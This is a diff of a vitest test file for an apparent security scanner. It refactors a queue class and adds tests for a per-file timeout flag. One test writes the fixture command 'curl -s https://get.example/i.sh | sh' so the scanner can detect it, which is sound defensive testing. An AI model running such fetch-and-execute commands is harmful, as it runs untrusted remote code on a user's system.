@@ -2,25 +2,27 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { Report } from '../../../src/model/report.ts';
-import { TaskQueue } from '../../../src/static/worker-pool.ts';
+import { BundleQueue } from '../../../src/static/bundle-queue.ts';
+import { bundleOf } from '../../../src/static/bundles.ts';
 import { sbx } from '../../support/sbx.ts';
 import { temporaryFolder } from '../../support/temporary.ts';
 
-const task = (path: string, bytes: number) => ({ path, content: new Uint8Array(bytes), unit: '.' });
+const task = (path: string, bytes: number) =>
+  bundleOf([{ path, content: new Uint8Array(bytes).fill(97), unit: '.' }]);
 
-describe('TaskQueue', () => {
-  it('gives the largest files first and small ones together', () => {
-    const queue = new TaskQueue([task('s', 10), task('l', 500_000), task('m', 40_000), task('t', 20)]);
-    const paths = () => queue.takeBatch()?.map(({ path }) => path) ?? null;
+describe('BundleQueue', () => {
+  it('gives the largest bundles first and small ones together', () => {
+    const queue = new BundleQueue([task('s', 10), task('l', 500_000), task('m', 40_000), task('t', 20)]);
+    const paths = () => queue.takeBatch()?.map(({ files }) => files[0]?.path) ?? null;
     expect([paths(), paths(), paths()]).toEqual([['l'], ['m', 't', 's'], null]);
   });
 
-  it('gives the smallest one away only up to a size, and no file twice', () => {
-    const queue = new TaskQueue([task('s', 10), task('l', 500_000), task('m', 40_000)]);
-    expect(queue.takeSmallest(1_000)?.path).toBe('s');
+  it('gives the smallest one away only up to a size, and none twice', () => {
+    const queue = new BundleQueue([task('s', 10), task('l', 500_000), task('m', 40_000)]);
+    expect(queue.takeSmallest(1_000)?.files[0]?.path).toBe('s');
     expect(queue.takeSmallest(1_000)).toBe(null);
-    expect(queue.takeBatch()?.map(({ path }) => path)).toEqual(['l']);
-    expect(queue.takeBatch()?.map(({ path }) => path)).toEqual(['m']);
+    expect(queue.takeBatch()?.map(({ files }) => files[0]?.path)).toEqual(['l']);
+    expect(queue.takeBatch()?.map(({ files }) => files[0]?.path)).toEqual(['m']);
     expect(queue.takeBatch()).toBe(null);
     expect(queue.takeSmallest(1_000)).toBe(null);
   });
@@ -41,5 +43,25 @@ describe('a large target', () => {
     expect(report.coverage).toMatchObject({ files: 25, analysed: 25 });
     expect(report.findings.map((finding) => finding.ruleId)).toContain('secret-file-to-network');
     expect(status).toBe(1);
+  });
+
+  it('says which files took too long, keeps what it found in others, and is incomplete', async () => {
+    const folder = temporaryFolder();
+    const slow = Array.from({ length: 120_000 }, (_item, index) => `v${index} = f(${index}, g.h[${index}])`);
+    writeFileSync(join(folder, 'slow.py'), slow.join('\n'));
+    writeFileSync(join(folder, 'quick.sh'), 'curl -s https://get.example/i.sh | sh\n');
+    const { status, stdout } = await sbx(['scan', folder, '--format', 'json', '--file-timeout', '0.4']);
+    const report = JSON.parse(stdout) as Report;
+    expect(status).toBe(4);
+    expect(report.coverage.opaque).toEqual([
+      { path: 'slow.py', blocking: true, reason: 'took longer than 0.4 s' },
+    ]);
+    expect(report.findings.map(({ location }) => location.path)).toContain('quick.sh');
+  });
+
+  it.each(['0', '-1', 'soon', '1e99'])('refuses %s as a time for a file', async (seconds) => {
+    const { status, stderr } = await sbx(['scan', temporaryFolder(), '--file-timeout', seconds]);
+    expect(status).toBe(2);
+    expect(stderr).toContain('number of seconds above 0');
   });
 });
